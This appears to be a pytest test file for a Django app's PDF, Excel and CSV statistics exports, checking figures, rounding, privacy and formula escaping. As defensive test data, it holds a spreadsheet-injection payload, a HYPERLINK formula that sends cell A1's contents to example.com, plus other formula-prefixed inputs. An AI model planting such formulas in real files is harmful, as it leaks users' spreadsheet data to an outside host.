"""The report as PDF, XLSX and CSV: the same figures as the page, who made it and when, no formula.

Reads the files back as a person's program would: the PDF's text with pypdf, the workbook with
openpyxl, the CSV with the csv module. The published figures are rounded at random by their records'
keys, so a file is held to the report as shown (`exports.present`), and to literals only where the
figures are multiples of 3 (the `exact` dataset), which are published as they are.
"""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from reporting import disclosure, exports
from reporting.exports import COUNT, Figure
from reporting.models import Certification, SurveyResponse
from reporting.report import build_report, period_from_code
from sehoglandet.models import AccessLog, Municipality
from sehoglandet.spreadsheets import csv_safe
from tests import factories

from .published import texts
from .test_report_views import H1, SECRET_FIRST_NAME, known_dataset, report_rows, url

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Klicka")'


def export(client, file_format: str, query: dict | None = None):
    return client.get(reverse(f"reporting:report_{file_format}"), H1 if query is None else query)


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages).replace("\xa0", " ")


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def known(people):
    return known_dataset(people)


@pytest.fixture
def exact(people):
    """The known dataset three times over: every count a multiple of 3, published as it is
    (tests/reporting/conftest.py)."""
    return known_dataset(people, scale=3)


def shown_report(municipality: str = "") -> exports.ShownReport:
    """The 2026 H1 report as the page shows it, for all municipalities or one."""
    scope = factories.municipality(municipality) if municipality else None
    return exports.present(build_report(period_from_code("2026H1"), municipality=scope))


def csv_row(table: str, label: str, figures) -> list[str]:
    """A CSV row of figures: table, label, women, men, other or not stated, total; no answers, no goal."""
    return [table, label, *(figure.plain for figure in figures), "", ""]


def cell_values(figures) -> list:
    """The figures as workbook cells: a count as a number, anything else as its text."""
    return [figure.number if figure.kind == COUNT else figure.text for figure in figures]


@pytest.fixture
def certified(people):
    """Nässjö's manager certified 2026 H1 with a comment that looks like a formula."""
    return Certification.objects.create(
        municipality=factories.municipality("nassjo"),
        period_start=date(2026, 1, 1),
        period_end=date(2026, 6, 30),
        follows_description=True,
        fte_as_agreed=True,
        comment=FORMULA,
        certified_by=people["chef.nassjo"],
    )


# Six forms from Nässjö in March 2026, the first two questions answered: gender, q1, q2.
SURVEY_FORMS = [("woman", 5, 6), ("woman", 6, 2), ("woman", 2, 4), ("woman", 4, 1), ("woman", 4, 5), ("man", 1, 6)]


@pytest.fixture
def surveyed(people):
    for gender, first, second in SURVEY_FORMS:
        SurveyResponse.objects.create(
            municipality=factories.municipality("nassjo"),
            answered_on=date(2026, 3, 10),
            gender=gender,
            q1=first,
            q2=second,
            entered_by=people["coach.nassjo"],
        )


def workbook_of(client) -> object:
    return load_workbook(io.BytesIO(export(client, "xlsx").content))


# The files as downloads


@pytest.mark.parametrize(
    ("file_format", "content_type", "filename"),
    [
        ("pdf", "application/pdf", "statistik-2026H1-alla.pdf"),
        ("xlsx", exports.XLSX_CONTENT_TYPE, "statistik-2026H1-alla.xlsx"),
        ("csv", "text/csv; charset=utf-8", "statistik-2026H1-alla.csv"),
    ],
)
def test_each_download_is_a_named_file_and_an_export_in_the_access_log(
    client_for, people, known, file_format, content_type, filename
):
    response = export(client_for("forbundschef"), file_format)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    (row,) = report_rows()
    assert (row.user, row.action, row.object_id) == (people["forbundschef"], AccessLog.Action.EXPORT, file_format)
    assert row.purpose == "Statistik för Första halvåret 2026 (2026-01-01 – 2026-06-30), Alla kommuner"


def test_a_managers_download_holds_their_municipality_only(client_for, known):
    response = export(client_for("chef.nassjo"), "csv")

    assert response["Content-Disposition"] == 'attachment; filename="statistik-2026H1-nassjo.csv"'
    rows = csv_rows(response.content)
    active = shown_report("nassjo").table("participants").rows[0]
    assert csv_row("Deltagare", "Aktiva någon gång under perioden", active.figures) in rows
    assert (active.figures[0].text, active.figures[-1].text) == ("6", "12")  # multiples of 3: exact
    assert ["Om rapporten", "Kommun", "", "", "", "Nässjö", "", ""] in rows


@pytest.mark.parametrize("file_format", ["pdf", "xlsx", "csv"])
def test_own_dates_give_the_page_with_the_error_and_no_file(client_for, known, file_format):
    query = {"kind": "dates", "start": "2026-01-01", "end": "2026-06-30"}

    response = export(client_for("forbundschef"), file_format, query)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Välj en period i listan." in response.content.decode()
    assert report_rows() == []


@pytest.mark.parametrize("file_format", ["pdf", "xlsx", "csv"])
def test_a_download_without_a_period_asks_for_one(client_for, file_format):
    response = export(client_for("forbundschef"), file_format, {})

    assert response.status_code == 400
    assert "Rätta följande" in response.content.decode()
    assert report_rows() == []


# The PDF


def test_the_pdf_has_a_cover_the_figures_and_page_numbers(client_for, known, certified):
    content = export(client_for("forbundschef"), "pdf").content
    text = pdf_text(content)
    shown = shown_report()

    assert "Statistik för SE-Höglandet" in text
    assert "Första halvåret 2026 (2026-01-01 – 2026-06-30)" in text
    assert "Alla kommuner" in text
    assert "Skapad av Ingrid Björk" in text
    assert "För få avslut under perioden för att bedöma målet" in plain(text)
    for key in ("participants", "exits"):
        for row in shown.table(key).rows:
            assert f"{row.label} {' '.join(texts(row.figures))}" in text, row.label
    assert "Per Sandberg" in text
    pages = len(PdfReader(io.BytesIO(content)).pages)
    assert f"Sida 2 av {pages}" in text


def test_the_pdf_announces_the_rounding_and_states_the_definitions(known):
    shown = shown_report()

    text = plain(pdf_text(exports.render_pdf(shown)))

    assert plain(shown.protection_notice) in text
    assert shown.protection_notice.startswith("Alla antal avrundas slumpvis till en multipel av 3")
    for definition in shown.definitions:
        assert plain(definition.term) in text
        assert plain(definition.text) in text, definition.term


def test_the_pdf_draws_the_goal_and_caseload_charts(exact):
    charts = exports.charts(shown_report())

    exit_chart, caseload_chart = charts  # no survey answers: no survey chart
    assert [(bar.label, bar.value.replace("\xa0", " "), bar.width) for bar in exit_chart.bars] == [
        ("Kvinnor", "100,0 %", 250.0),
        ("Män", "för få", None),  # three men exited: a row that says so, no bar
        ("Totalt", "80,0 %", 200.0),
    ]
    assert exit_chart.goal_x == 200 + 0.35 * 250
    nassjo = next(bar for bar in caseload_chart.bars if bar.label == "Nässjö")
    assert nassjo.value == "21 / 36"
    assert nassjo.marker == 200 + 250.0  # Nässjö has the most places: the scale's end


def test_the_pdf_draws_each_value_where_the_layout_put_it_and_no_bar_for_too_few(exact):
    shown = shown_report()
    charts = exports.charts(shown)

    html = render_to_string("reporting/report_pdf.html", {"report": shown, "charts": charts})

    exit_chart = html[html.index("<svg") : html.index("</svg>")]
    assert exit_chart.count("<rect") == 2  # women and the total; the men's share is too few
    for bar in charts[0].bars:
        assert f'<text x="{bar.value_x}" y="{bar.text_y}"' in exit_chart
        assert f">{bar.value}</text>" in exit_chart


def test_the_pdf_never_holds_a_name_or_a_personnummer(client_for, known):
    text = pdf_text(export(client_for("forbundschef"), "pdf").content)

    assert SECRET_FIRST_NAME not in text
    assert not any(participant.person.identity_number[:8] in text.replace("-", "") for participant in known)


# The workbook


def test_the_workbook_has_a_sheet_per_table_with_numbers_as_numbers(client_for, exact):
    workbook = load_workbook(io.BytesIO(export(client_for("forbundschef"), "xlsx").content))

    assert workbook.sheetnames[:3] == ["Om rapporten", "Deltagare", "Remisser"]
    assert {"Avslut", "Ålder vid inskrivning", "Mål", "Beläggning", "Enkät", "Intyganden"} <= set(workbook.sheetnames)
    about = workbook["Om rapporten"]
    assert about["B3"].value == "Första halvåret 2026 (2026-01-01 – 2026-06-30)"
    assert about["B5"].value == "Ingrid Björk"
    participants = workbook["Deltagare"]
    assert [cell.value for cell in participants[4]] == ["Aktiva någon gång under perioden", 18, 21, 3, 42]
    assert [cell.value for cell in participants[7]] == ["Aktiva vid periodens slut", 6, 18, 3, 27]
    assert [cell.value for cell in workbook["Avslut"][4]] == ["Arbete", 12, "för få", 0, 12]
    goals = workbook["Mål"]
    assert [goals["B4"].value, goals["C4"].value, goals["D4"].value] == [1.0, "för få", "–"]
    assert goals["E4"].value == pytest.approx(0.8)
    assert goals["E4"].number_format == "0.0%"


def test_the_about_sheet_announces_the_rounding_and_states_the_definitions(client_for, known):
    shown = shown_report()

    about = workbook_of(client_for("forbundschef"))["Om rapporten"]

    rows = [[cell.value for cell in row][:2] for row in about.iter_rows(min_row=3)]
    assert ["Avrundning", shown.protection_notice] in rows
    assert rows[-len(shown.definitions) :] == [[definition.term, definition.text] for definition in shown.definitions]


def test_the_workbook_and_the_csv_hold_the_figures_the_page_shows(client_for, known, surveyed):
    client = client_for("forbundschef")
    shown = client.get(url(), H1).context["report"]
    workbook = workbook_of(client)
    rows = csv_rows(export(client, "csv").content)

    sheets = {sheet["A1"].value: sheet for sheet in workbook.worksheets}
    for table in shown.tables:
        sheet_rows = [[cell.value for cell in row] for row in sheets[table.title].iter_rows(min_row=4)]
        for row in table.rows:
            assert [row.label, *cell_values(row.figures)] in sheet_rows, (table.key, row.label)
            assert csv_row(table.title, row.label, row.figures) in rows
    caseload = [[cell.value for cell in row][:2] for row in sheets["Beläggning"].iter_rows(min_row=4)]
    for row in shown.caseload:
        assert [row.municipality, row.active.number] in caseload
        assert ["Beläggning", f"{row.municipality}: Aktiva vid periodens slut", "", "", "", row.active.plain] in [
            csv_row[:6] for csv_row in rows
        ]
    answers = [[cell.value for cell in row][:5] for row in sheets["Indikatorenkäten"].iter_rows()]
    assert ["Besvarade enkäten", *cell_values(shown.survey_responses)] in answers
    assert csv_row("Indikatorenkäten", "Besvarade enkäten", shown.survey_responses) in rows


def test_no_workbook_cell_can_become_a_formula(client_for, known, certified):
    Municipality.objects.filter(code="eksjo").update(name="=1+2")

    content = export(client_for("forbundschef"), "xlsx").content

    workbook = load_workbook(io.BytesIO(content))
    comment = workbook["Intyganden"]["G4"]
    assert (comment.value, comment.data_type) == (f"'{FORMULA}", "s")
    eksjo = next(row[0] for row in workbook["Beläggning"].iter_rows(min_row=4) if row[0].value == "'=1+2")
    assert eksjo.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("comment", [FORMULA, "-1+2", "@SUM(A1)", "+1"])
def test_workbook_text_starting_like_a_formula_gets_an_apostrophe_as_in_the_csv(client_for, known, people, comment):
    Certification.objects.filter(municipality__code="nassjo").delete()
    Certification.objects.create(
        municipality=factories.municipality("nassjo"),
        period_start=date(2026, 1, 1),
        period_end=date(2026, 6, 30),
        follows_description=True,
        fte_as_agreed=True,
        comment=comment,
        certified_by=people["chef.nassjo"],
    )

    workbook = workbook_of(client_for("forbundschef"))

    cell = workbook["Intyganden"]["G4"]
    assert (cell.value, cell.data_type) == (csv_safe(comment), "s") == (f"'{comment}", "s")
    participants = workbook["Deltagare"]["B4"]  # numbers stay numbers
    assert (type(participants.value), participants.data_type) == (int, "n")


def test_the_survey_sheet_and_the_csv_keep_the_number_of_answers_per_question(client_for, known, surveyed):
    client = client_for("forbundschef")
    shown = client.get(url(), H1).context["report"]

    survey = workbook_of(client)["Enkät"]
    rows = csv_rows(export(client, "csv").content)

    header = ["Fråga", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt", "Svar", "Mål"]
    assert [cell.value for cell in survey[3]] == header
    for number, question in enumerate(shown.survey[:2], start=1):
        answered = question.answered[-1].number
        assert answered == 6  # six forms: a multiple of 3, exact
        assert [cell.value for cell in survey[3 + number]][5:] == [answered, question.verdict]
        row = next(row for row in rows if row[1] == f"{number}. {question.question}")
        assert row[6:] == [str(answered), question.verdict]
    assert rows[0][6] == "Svar"


def test_a_municipalitys_workbook_says_the_survey_is_reported_for_all_municipalities(client_for, known, surveyed):
    # The page and the PDF of a municipality's report give the survey note and no survey figures
    # (the survey is reported for Höglandet as a whole); the workbook must download and do the same.
    note = shown_report("nassjo").survey_note

    response = export(client_for("chef.nassjo"), "xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    values = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert note in values
    assert "Besvarade enkäten" not in values


class PageLabels(HTMLParser):
    """The page's headings, captions, header cells and terms (`labels`), its paragraphs and its text."""

    TAGS = {"h2", "h3", "caption", "th", "dt", "p"}

    def __init__(self, html: str):
        super().__init__()
        self.open: list[list[str]] = []
        self.labels: set[str] = set()
        self.paragraphs: set[str] = set()
        self.text = ""
        self.feed(html[html.index("<main") :])
        self.text = plain(self.text)

    def handle_starttag(self, tag, attrs):
        if tag in self.TAGS:
            self.open.append([tag, ""])

    def handle_endtag(self, tag):
        if self.open and self.open[-1][0] == tag:
            tag, text = self.open.pop()
            (self.paragraphs if tag == "p" else self.labels).add(plain(text))

    def handle_data(self, data):
        self.text += f" {data}"
        for element in self.open:
            element[1] += data


def plain(text) -> str:
    return re.sub(r"\s+", " ", str(text).replace("\xa0", " ")).strip()


def test_the_workbook_and_the_csv_use_the_pages_row_and_column_labels(client_for, known, surveyed, certified):
    client = client_for("forbundschef")
    page = PageLabels(client.get(url(), H1).content.decode())
    workbook = workbook_of(client)
    rows = csv_rows(export(client, "csv").content)

    for sheet in workbook.worksheets[1:]:  # after the sheet about the report
        bold = [cell.value for row in sheet.iter_rows() for cell in row if cell.value and cell.font.bold]
        assert {plain(text) for text in bold} <= page.labels, sheet.title
        if sheet.title != "Intyganden":  # its first column is the municipality that certified
            first_column = [plain(cell.value) for cell in sheet["A"] if isinstance(cell.value, str)]
            assert set(first_column) <= page.labels | page.paragraphs, sheet.title

    figures = [row for row in rows[1:] if row[0] != "Om rapporten"]
    assert {plain(cell) for cell in rows[0][1:]} <= page.labels
    assert {plain(row[0]) for row in figures} <= page.labels
    for row in figures:
        parts = row[1].split(": ") if row[0] == "Beläggning" else [row[1]]  # municipality: column
        assert {plain(part) for part in parts} <= page.labels, row
    judgements = {plain(row[7]) for row in figures if row[7]}
    # The exit goal's and the survey's "too few" (five exits, six answers), and the survey's "no answers".
    assert len(judgements) == 3
    assert all(judgement in page.text for judgement in judgements), judgements


# The CSV


def test_the_csv_holds_every_table_row_with_semicolons_and_a_byte_order_mark(client_for, exact):
    rows = csv_rows(export(client_for("forbundschef"), "csv").content)

    assert rows[0] == ["Tabell", "Uppgift", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt", "Svar", "Mål"]
    assert rows[1][:6] == ["Om rapporten", "Period", "", "", "", "Första halvåret 2026 (2026-01-01 – 2026-06-30)"]
    participants = [row[1:6] for row in rows if row[0] == "Deltagare"]
    assert participants == [
        ["Aktiva någon gång under perioden", "18", "21", "3", "42"],
        ["Beslut om inskrivning under perioden", "18", "21", "3", "42"],
        ["Startade under perioden", "18", "21", "3", "42"],
        ["Aktiva vid periodens slut", "6", "18", "3", "27"],
        ["Varav i efterstöd vid slutet", "0", "0", "0", "0"],
        ["I kö vid periodens slut", "0", "0", "0", "0"],
        ["Ändrad försörjning under perioden", "0", "0", "0", "0"],
        ["Avslutade under perioden", "12", "3", "0", "15"],
    ]
    # Three men exited, under 10: their column's reasons are held back; their total is not.
    assert ["Avslut per orsak", "Arbete", "12", "för få", "0", "12", "", ""] in rows
    assert ["Avslut per orsak", "Totalt", "12", "3", "0", "15", "", ""] in rows
    goal = next(row for row in rows if row[1] == "Avslut till arbete eller studier")
    assert goal[:7] == ["Mål och nyckeltal", "Avslut till arbete eller studier", "100,0 %", "för få", "–", "80,0 %", ""]
    assert goal[7] == "Målet är uppnått. 80,0 % av dem som avslutades gick till arbete eller studier; målet är 35 %."
    assert ["Beläggning", "Nässjö: Aktiva vid periodens slut", "", "", "", "21", "", ""] in rows
    assert ["Beläggning", "Nässjö: Platser", "", "", "", "36", "", ""] in rows
    assert ["Beläggning", "Nässjö: Coachtjänster", "", "", "", "180 %", "", ""] in rows
    assert all(len(row) == 8 for row in rows)


def test_no_csv_cell_can_become_a_formula(client_for, exact):
    Municipality.objects.filter(code="eksjo").update(name="=1+2")

    rows = csv_rows(export(client_for("forbundschef"), "csv").content)

    assert ["Beläggning", "'=1+2: Aktiva vid periodens slut", "", "", "", "6", "", ""] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+46", "'+46"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("för få", "för få"),
        ("Nässjö", "Nässjö"),
        (None, ""),
    ],
)
def test_csv_text_starting_like_a_formula_gets_an_apostrophe(text, safe):
    assert csv_safe(text) == safe


# What the figures look like: rounded to base 3 by their records' keys, shares from published counts


def counts(*numbers: int) -> list[Figure]:
    """Published counts of women, men, other or not stated and the total (multiples of 3, so exact)."""
    return [exports.count_figure(number, 0) for number in numbers]


@pytest.mark.with_reach
def test_the_draws_stay_the_same_from_one_release_to_the_next(settings):
    # A figure published once is published the same way later: a change to the draw would move every
    # live report a reader has already seen (the tests that build their expected figures with
    # disclosure.rounded cannot see such a change).
    settings.SECRET_KEY = "a-fixed-secret-for-the-draws-" + "0" * 30

    assert [disclosure.rounded(1, key_sum) for key_sum in range(24)] == [
        3, 3, 0, 0, 3, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 3, 0
    ]  # fmt: skip
    assert [disclosure.rounded(5, key_sum) for key_sum in range(24)] == [
        6, 6, 0, 6, 6, 6, 6, 3, 6, 6, 6, 6, 6, 3, 6, 6, 9, 6, 6, 3, 6, 6, 6, 3
    ]  # fmt: skip
    assert [disclosure.rounded(6, key_sum) for key_sum in range(24)] == [
        6, 6, 3, 6, 6, 6, 6, 6, 6, 6, 6, 6, 6, 6, 6, 6, 9, 6, 6, 6, 6, 6, 6, 6
    ]  # fmt: skip


def test_a_share_comes_from_the_published_counts_and_a_whole_under_10_gives_too_few():
    figures = exports.published_shares([counts(6, 12, 0, 18), counts(0, 3, 0, 3)], counts(9, 24, 0, 33))

    # Women: 9 published, too few. Men: 15 of 24. Other: no one. In all: 21 of 33.
    assert texts(figures) == ["för få", "62,5 %", "–", "63,6 %"]
    assert [figure.number for figure in figures[1::2]] == [Decimal("0.625"), Decimal("0.636")]


def test_a_share_of_published_counts_is_at_most_100_percent():
    # 13 of 14 can be published as 15 of 12: the share says 100 %, never more.
    figures = exports.published_shares([counts(15, 0, 0, 15)], counts(12, 0, 0, 12))

    assert texts(figures) == ["100,0 %", "–", "–", "100,0 %"]


def test_the_goal_is_judged_on_the_published_share():
    assert exports.goal_met(exports.percent_figure(Decimal("0.350")), Decimal("0.35")) is True
    assert exports.goal_met(exports.percent_figure(Decimal("0.349")), Decimal("0.35")) is False
    assert exports.goal_met(Figure("för få", hidden=True), Decimal("0.35")) is None
    assert exports.goal_met(Figure("–"), Decimal("0.35")) is None


@pytest.mark.parametrize(
    ("period", "text"),
    [
        (period_from_code("2026H1"), "Första halvåret 2026 (2026-01-01 – 2026-06-30)"),
        (period_from_code("2025H2"), "Andra halvåret 2025 (2025-07-01 – 2025-12-31)"),
        (period_from_code("2026"), "Helåret 2026 (2026-01-01 – 2026-12-31)"),
    ],
)
def test_the_period_is_described_in_words(period, text):
    assert exports.describe_period(period) == text


def test_counts_and_shares_get_swedish_formatting():
    figure = exports.percent_figure(Decimal("0.3574"))

    assert figure.text == "35,7\xa0%"
    assert exports.count_figure(12345, 0).text == "12\xa0345"  # a multiple of 3: exact
    assert exports.count_figure(12346, 0).text in ("12\xa0345", "12\xa0348")
